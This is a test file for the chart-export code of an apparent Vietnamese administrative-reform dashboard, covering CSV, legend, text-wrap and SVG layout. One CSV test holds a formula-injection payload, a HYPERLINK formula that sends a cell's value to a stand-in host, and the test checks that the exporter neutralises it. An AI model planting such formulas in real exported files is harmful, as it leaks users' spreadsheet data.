import { describe, expect, it } from 'vitest'
import { toCsv } from './export-chart.ts'
import {
  buildExportSvg,
  escapeXml,
  exportLayout,
  layoutLegend,
  legendForDrawing,
  settleLegend,
} from './export-svg.ts'
import type { LegendItem } from './export-chart.ts'
import { EXPORT_TARGETS, ptAtTarget, rowPitch, typePx } from './export-targets.ts'
import { exportFileName, slugify } from './slug.ts'
import { estimateTextWidth, wrapText } from './text-metrics.ts'

const text = {
  title: 'Chỉ số CCHC và xếp loại',
  subtitle: 'Tỉnh Long An (cấp huyện), 2023',
  source: 'Nguồn: PAR Dashboard — dữ liệu Tỉnh Long An (cấp huyện), 2023',
  legend: [
    { label: 'Tốt (≥ 80)', color: '#482878' },
    { label: 'Khá (≥ 70)', color: '#31688E', pattern: 'hatch' as const },
  ],
}

describe('file names', () => {
  it('are lower-case ASCII with diacritics stripped', () => {
    expect(slugify('Tỉnh Long An')).toBe('tinh-long-an')
    expect(slugify('Đức Hòa')).toBe('duc-hoa')
    expect(exportFileName('ranking', 'long-an', 2023, 'png')).toBe('ranking-long-an-2023.png')
    expect(exportFileName('change', 'Thành phố Long Xuyên', '2019-2024', 'csv')).toBe(
      'change-thanh-pho-long-xuyen-2019-2024.csv',
    )
  })
})

describe('toCsv', () => {
  it('writes a BOM, a header row and raw numbers, quoting where needed', () => {
    const csv = toCsv(
      ['Đơn vị', 'Chỉ số'],
      [
        ['Huyện Thạnh Hóa', 80.1],
        ['A, "B"', null],
      ],
    )
    expect(csv.startsWith('\uFEFF')).toBe(true)
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Đơn vị,Chỉ số',
      'Huyện Thạnh Hóa,80.1',
      '"A, ""B""",',
      '',
    ])
  })

  it('neutralises formula-leading cells and keeps negative numbers numeric', () => {
    const csv = toCsv(
      ['Đơn vị', 'Thay đổi'],
      [
        ['=HYPERLINK("http://x?leak="&A1,"click")', -5.35],
        ['+cmd', -2],
      ],
    )
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Đơn vị,Thay đổi',
      `"'=HYPERLINK(""http://x?leak=""&A1,""click"")",-5.35`,
      "'+cmd,-2",
      '',
    ])
  })
})

describe('legend layout', () => {
  it('wraps items into rows within the width', () => {
    const items = Array.from({ length: 12 }, (_, i) => ({
      label: `Huyện số ${i + 1} rất dài`,
      color: '#000000',
    }))
    const { placed, rows } = layoutLegend(items, 800, 22)
    expect(rows).toBeGreaterThan(1)
    expect(placed.every((p) => p.x < 800)).toBe(true)
    expect(layoutLegend([], 800, 22).rows).toBe(0)
  })

  it('wraps a key in words longer than a row onto rows of its own, within the width', () => {
    const long = {
      label:
        '7/10 — 70,0%: hoàn thành 7 trên 10 nhiệm vụ phải thực hiện (kế hoạch trừ số nhiệm vụ điều chỉnh/hủy)',
      color: '#000000',
      shape: 'none' as const,
    }
    const status = { label: 'Hoàn thành đúng hạn', color: '#009E73' }
    const { placed, rows } = layoutLegend([status, long, status], 500, 22)
    const [first, wrapped, after] = placed
    expect(wrapped?.row).toBe(1)
    expect(wrapped?.x).toBe(0)
    expect(wrapped?.lines.length).toBeGreaterThan(1)
    for (const line of wrapped?.lines ?? [])
      expect(estimateTextWidth(line, 22)).toBeLessThanOrEqual(500)
    expect(wrapped?.lines.join(' ')).toBe(long.label)
    // The next item starts the row after the key's last line.
    expect(after?.row).toBe(1 + (wrapped?.lines.length ?? 0))
    expect(rows).toBe(2 + (wrapped?.lines.length ?? 0))
    expect(first?.lines).toEqual([status.label])
    const layout = exportLayout({ ...text, legend: [long] }, EXPORT_TARGETS['a4-portrait'], {
      kind: 'plot',
    })
    const svg = buildExportSvg({ ...text, legend: [long] }, '', layout)
    const lines = [...svg.matchAll(/<text[^>]*data-part="legend"[^>]*>([^<]*)<\/text>/g)]
    expect(lines.length).toBe(layout.legend.rows)
  })

  it('wraps a legend line wider than the row (which compared unit went into which) after its swatch', () => {
    const long = {
      label:
        'Phường Đông Xuyên → Phường Mỹ Xuyên (01/01/2025) → Phường Long Xuyên (sắp xếp lại 01/07/2025)',
      color: '#000000',
      shape: 'line' as const,
    }
    const short = { label: 'Phường Mỹ Long', color: '#000000' }
    const { placed } = layoutLegend([short, long, short], 600, 22)
    const [first, wrapped, after] = placed
    expect(first?.row).toBe(0)
    expect(wrapped?.row).toBe(1)
    expect(wrapped?.lines.join(' ')).toBe(long.label)
    for (const line of wrapped?.lines ?? [])
      expect(estimateTextWidth(line, 22)).toBeLessThanOrEqual(600 - 22 * 1.45)
    expect(after?.row).toBe(1 + (wrapped?.lines.length ?? 0))
  })

  it('gives a key in words no swatch, and no room for one', () => {
    const key = { label: '↑7: tăng 7 hạng', color: '#000000', shape: 'none' as const }
    const swatched = { ...key, shape: 'square' as const }
    const [plain] = layoutLegend([key, key], 2000, 22).placed.slice(1)
    const [boxed] = layoutLegend([swatched, swatched], 2000, 22).placed.slice(1)
    expect(plain && boxed && boxed.x - plain.x).toBeCloseTo(22 * 1.45)
    const layout = exportLayout({ ...text, legend: [key] }, EXPORT_TARGETS['a4-portrait'], {
      kind: 'plot',
    })
    const svg = buildExportSvg({ ...text, legend: [key] }, '', layout)
    expect(svg).toContain('>↑7: tăng 7 hạng</text>')
    expect(svg).not.toMatch(/<rect x="[\d.]+" y="[\d.]+" width="\d+" height="\d+" fill="#000000"/)
  })
})

describe('a legend that depends on the drawing', () => {
  const grade: LegendItem = { label: 'Tốt (≥ 80)', color: '#482878' }
  const focusKey: LegendItem = {
    label: '▶ Đơn vị được làm nổi bật: Huyện Thạnh Hóa',
    color: '#1F2937',
    shape: 'none',
    ifDrawn: '[data-focus-unit]',
  }
  const line = (code: string): LegendItem => ({
    label: code,
    color: '#0072B2',
    shape: 'line',
    unlessDrawn: `[data-line-label="${code}"]`,
  })
  const lines = ['A', 'B', 'C', 'D', 'E', 'F'].map(line)

  it('keeps a key where its mark is drawn, and a line’s entry where the line is not named', () => {
    const drawn = new Set(['[data-focus-unit]', '[data-line-label="A"]', '[data-line-label="C"]'])
    const kept = legendForDrawing([grade, focusKey, ...lines], (s) => drawn.has(s))
    expect(kept.map((i) => i.label)).toEqual([grade.label, focusKey.label, 'B', 'D', 'E', 'F'])
    expect(legendForDrawing([grade, focusKey], () => false)).toEqual([grade])
  })

  /**
   * A chart that names the lines whose turn comes within `room` names, the room shrinking by one
   * name per legend entry (each takes plot height), as the rank history's line ends do.
   */
  const chart = (room: number) => async (legend: LegendItem[]) => {
    const named = new Set(
      lines.slice(0, Math.max(0, room - legend.length)).map((l) => l.unlessDrawn),
    )
    return {
      drawing: legend.length,
      drawn: (s: string) => s === '[data-focus-unit]' || named.has(s),
    }
  }

  it('names no line twice when every line end is named', async () => {
    const { legend } = await settleLegend([grade, focusKey, ...lines], chart(20))
    expect(legend).toEqual([grade, focusKey])
  })

  it('stays complete when names had no room: every line without a name has its entry', async () => {
    for (const room of [4, 6, 8, 10]) {
      const items = [grade, focusKey, ...lines]
      const { legend } = await settleLegend(items, chart(room))
      const drawn = await chart(room)(legend)
      for (const l of lines)
        if (!drawn.drawn(l.unlessDrawn ?? '')) expect(legend, `${room}: ${l.label}`).toContain(l)
    }
  })

  it('draws once when no item depends on the drawing', async () => {
    let drawings = 0
    const { legend } = await settleLegend([grade], async () => {
      drawings += 1
      return { drawing: null, drawn: () => false }
    })
    expect(legend).toEqual([grade])
    expect(drawings).toBe(1)
  })
})

describe('wrapText', () => {
  it('breaks a word longer than the line, after a slash or with a hyphen', () => {
    const lines = wrapText('Institutions', 20, 70)
    expect(lines.length).toBeGreaterThan(1)
    for (const line of lines) expect(estimateTextWidth(line, 20)).toBeLessThanOrEqual(70)
    expect(lines.map((l) => l.replace(/-$/, '')).join('')).toBe('Institutions')
    expect(wrapText('2771/QĐ-UBND', 20, 80)[0]).toBe('2771/')
    // Hyphenated where a syllable starts, never inside "sh".
    expect(wrapText('Leadership', 20, 80)).toEqual(['Leader-', 'ship'])
  })

  it('balances a heading’s lines rather than leaving one word alone', () => {
    const width = estimateTextWidth('Tài chính công', 20, true) - 1
    expect(wrapText('Tài chính công', 20, width, { bold: true, balance: true })).toEqual([
      'Tài chính',
      'công',
    ])
    expect(wrapText('Chỉ đạo, điều hành', 20, 140, { bold: true, balance: true })).toEqual([
      'Chỉ đạo,',
      'điều hành',
    ])
  })

  it('breaks at spaces within the width and keeps every word', () => {
    const source =
      'Nguồn: Quyết định số 2729/QĐ-UBND ngày 29/12/2023 của UBND tỉnh Tây Ninh (số liệu các năm 2019–2024)'
    const lines = wrapText(source, 20, 500)
    expect(lines.length).toBeGreaterThan(1)
    expect(lines.join(' ')).toBe(source)
    expect(wrapText('', 20, 500)).toEqual([])
    // No orphan: the year goes down with the word before it.
    expect(
      wrapText(
        'Nguồn: Quyết định số 228/QĐ-UBND ngày 14/03/2024 của UBND tỉnh Long An (số liệu năm 2023)',
        20,
        900,
      ).at(-1),
    ).toBe('năm 2023)')
  })
})

/** The awards image's source line, as the English page wrote it (An Giang's districts, 2022). */
const AWARDS_SOURCE =
  'Source: 14 award decisions dated 10 January 2023–20 February 2023, Nos. 2771/QĐ-UBND, 1056/QĐ-UBND, 1762/QĐ-UBND, 954/QĐ-UBND, 235/QĐ-UBND, 734/QĐ-UBND, 190/QĐ-UBND, 586/QĐ-UBND, 2007/QĐ-UBND, 236/QĐ-UBND, 2605/QĐ-UBND, 2665/QĐ-UBND, 157/QĐ-UBND, 777/QĐ-UBND (data for 2022)'

describe('estimateTextWidth', () => {
  // Widths in em of Inter as Chromium draws it (canvas measureText over the embedded faces).
  const measured: [text: string, bold: boolean, em: number][] = [
    [
      '235/QĐ-UBND, 734/QĐ-UBND, 190/QĐ-UBND, 586/QĐ-UBND, 2007/QĐ-UBND, 236/QĐ-UBND, 2605/QĐ-UBND, 2665/QĐ-UBND, 157/QĐ-UBND, 777/QĐ-UBND',
      false,
      76.251,
    ],
    ['Institutions', false, 5.163],
    ['Institutions', true, 5.522],
    ['Thành phố Hồ Chí Minh', false, 11.143],
    ['Chỉ đạo, điều hành', true, 9.07],
    // Horned letters, with and without a tone (advance widths of the embedded faces).
    ['Phường Trường Ngữ Ưu', false, 11.255],
    ['Phường Trường Ngữ Ưu', true, 11.514],
  ]

  it('is never less than Inter draws, figures and capitals included, and close to it', () => {
    for (const [line, bold, em] of measured) {
      const ratio = estimateTextWidth(line, 10, bold) / (em * 10)
      expect(ratio, line).toBeGreaterThanOrEqual(1)
      expect(ratio, line).toBeLessThan(1.02)
    }
  })
})

const portrait = EXPORT_TARGETS['a4-portrait']
const slide = EXPORT_TARGETS['slide-16-9']
const rows = (n: number) => ({ kind: 'rows' as const, rows: n })

describe('exportLayout', () => {
  it('gives three bars a short image and fifteen rows the room they need', () => {
    const three = exportLayout(text, portrait, rows(3))
    const fifteen = exportLayout(text, portrait, rows(15))
    expect(three.width).toBe(portrait.width)
    expect(three.height).toBeLessThan(fifteen.height * 0.6)
    // Each of the fifteen rows gets a full pitch at the target's tick size.
    expect(fifteen.chart.height).toBeGreaterThanOrEqual(15 * rowPitch(typePx(portrait).tick))
  })

  it("keeps a page image within the page's text block, however many rows", () => {
    const many = exportLayout(text, portrait, rows(200))
    expect((ptAtTarget(many.height, portrait) / 72) * 2.54).toBeLessThanOrEqual(
      portrait.maxHeightCm + 0.01,
    )
  })

  it('draws a slide at 16:9 whatever it holds', () => {
    for (const n of [3, 15]) {
      const layout = exportLayout(text, slide, rows(n))
      expect(layout.width / layout.height).toBeCloseTo(16 / 9, 2)
    }
  })

  it('wraps a long source line within the margins at every target', () => {
    for (const target of Object.values(EXPORT_TARGETS)) {
      const layout = exportLayout({ ...text, source: AWARDS_SOURCE }, target, rows(11))
      const inner = layout.width - 2 * layout.pad
      expect(layout.source.lines.join(' ')).toBe(AWARDS_SOURCE)
      for (const line of layout.source.lines)
        expect(estimateTextWidth(line, layout.type.source), line).toBeLessThanOrEqual(inner)
    }
  })

  it('leaves the chart room below the legend and above the source', () => {
    const layout = exportLayout(text, portrait, rows(15))
    expect(layout.chart.y).toBeGreaterThan(layout.legend.top)
    const sourceTop =
      layout.height - layout.pad * 0.7 - layout.source.lines.length * layout.type.source * 1.3
    expect(layout.chart.y + layout.chart.height).toBeLessThanOrEqual(sourceTop)
  })
})

describe('buildExportSvg', () => {
  const layout = exportLayout(text, portrait, rows(2))
  const svg = buildExportSvg(
    text,
    '<svg x="24" y="180" width="952" height="300"><rect/></svg>',
    layout,
    '@font-face{}',
  )

  it("is a standalone SVG of the layout's size", () => {
    expect(
      svg.startsWith(
        `<svg xmlns="http://www.w3.org/2000/svg" width="${layout.width}" height="${layout.height}"`,
      ),
    ).toBe(true)
  })

  it("draws title, subtitle, legend and source inside the SVG, at the target's sizes", () => {
    for (const part of [text.title, text.subtitle, 'Tốt (≥ 80)', 'Khá (≥ 70)']) {
      expect(svg).toContain(escapeXml(part))
    }
    const sourceTexts = [...svg.matchAll(/<text[^>]*data-part="source"[^>]*>([^<]*)</g)].map(
      (m) => m[1],
    )
    expect(sourceTexts.join(' ')).toBe(text.source)
    expect(svg).toContain(`font-size="${typePx(portrait).title}" font-weight="700"`)
    expect(svg).toContain('<pattern id="export-legend-1"')
    expect(svg).toContain('@font-face{}')
  })

  it('marks a draft across the image, and only a draft', () => {
    expect(svg).not.toContain('data-draft-mark')
    const draft = buildExportSvg({ ...text, draftMark: 'Dự thảo — chưa công bố' }, '', layout)
    expect(draft).toMatch(
      /<g data-draft-mark="true" transform="rotate\(-[\d.]+ [^)]+\)"><text[^>]*>DỰ THẢO — CHƯA CÔNG BỐ<\/text>/,
    )
  })

  it('escapes markup in labels', () => {
    expect(escapeXml('<a & "b">')).toBe('&lt;a &amp; &quot;b&quot;&gt;')
  })
})
